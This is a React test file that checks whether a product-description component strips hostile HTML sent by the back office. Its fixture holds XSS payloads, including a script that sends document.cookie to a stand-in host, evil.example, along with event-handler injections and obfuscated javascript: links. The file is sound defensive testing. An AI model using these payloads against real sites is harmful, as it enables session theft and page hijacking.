import { renderToStaticMarkup } from 'react-dom/server';
import { ProductDescription } from './product-description';

/** A description as a compromised or careless back office could send it. */
const HOSTILE_DESCRIPTION = [
  '<h1>Waschtischarmatur</h1>',
  '<p onclick="steal()">Langlebige <strong>Keramikkartusche</strong>.</p>',
  '<script>document.location="https://evil.example/?c="+document.cookie</script>',
  '<img src="/media/wc.jpg" onerror="alert(1)" alt="Armatur">',
  '<img src="javascript:alert(2)" alt="x">',
  '<a href="javascript:alert(3)">Datenblatt</a>',
  '<a href="jav&#x61;script:alert(4)">Montage</a>',
  '<a href="/pdf/montage.pdf" target="_blank">Anleitung</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<style>body{display:none}</style>',
].join('');

describe('product description', () => {
  test('back-office HTML is sanitized: no script, event handlers or javascript: links reach the page', () => {
    const html = renderToStaticMarkup(<ProductDescription title="Beschreibung" html={HOSTILE_DESCRIPTION} />);
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/\son[a-z]+=/i);
    expect(html).not.toMatch(/javascript:/i);
    expect(html).not.toContain('evil.example');
    expect(html).not.toMatch(/<iframe|<style/i);
    expect(html).not.toContain('steal()');
  });

  test('the allowed markup stays: text, emphasis, images and safe links; h1 becomes h2 under the section title', () => {
    const html = renderToStaticMarkup(<ProductDescription title="Beschreibung" html={HOSTILE_DESCRIPTION} />);
    expect(html).toContain('<h2 id="product-description">Beschreibung</h2>');
    expect(html).toContain('<h2>Waschtischarmatur</h2>');
    expect(html).toContain('<strong>Keramikkartusche</strong>');
    expect(html).toMatch(/<img src="\/media\/wc\.jpg" alt="Armatur"\/?>/);
    expect(html).toContain('href="/pdf/montage.pdf"');
    expect(html).toContain('>Datenblatt</a>');
  });

  test('a description that is empty once cleaned shows no section', () => {
    expect(renderToStaticMarkup(<ProductDescription title="Beschreibung" html="<script>alert(1)</script>  " />)).toBe('');
    expect(renderToStaticMarkup(<ProductDescription title="Beschreibung" html="" />)).toBe('');
  });
});
